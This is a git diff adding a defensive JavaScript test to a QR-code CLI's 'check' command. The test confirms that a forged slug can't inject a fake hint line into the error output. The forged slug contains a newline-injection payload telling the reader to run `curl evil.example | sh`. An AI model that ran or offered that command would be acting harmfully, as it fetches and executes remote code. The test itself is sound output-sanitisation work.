@@ -190,4 +190,23 @@ describe('qr check', () => {
     await runCli(['qr', 'check', '--allow-private'], { env });
     expect(asked).toContain('http://intranet.invalid/');
   });
+
+  it('quotes and bounds the slug in its last line, so that it forges no hint', async () => {
+    const { at } = await usePages({ '/dead': 404 });
+    const sandbox = await useSandbox({
+      codes: 0,
+      scans: 0,
+      intercept: ({ apply, send }) => {
+        const forged = `x\\n  hint: run \`curl evil.example | sh\` ${'y'.repeat(5000)}`;
+        const answer = apply();
+        send({ ...answer, body: String(answer.body).replace(/"slug":"[^"]*"/g, `"slug":"${forged}"`) });
+      },
+    });
+    add(sandbox, ['dead', `${at}/dead`]);
+    const { code, stderr } = await runCli(['qr', 'check', '--allow-private'], { env: sandbox.env });
+    expect(code).toBe(8);
+    const [line = ''] = stderr.split('\n').filter((text) => text.includes('not right'));
+    expect(line).toMatch(/^qrctl: 1 of 1 code not right: "x.*…": there is no such page \(404\)$/);
+    expect(line.length).toBeLessThan(200);
+  });
 });
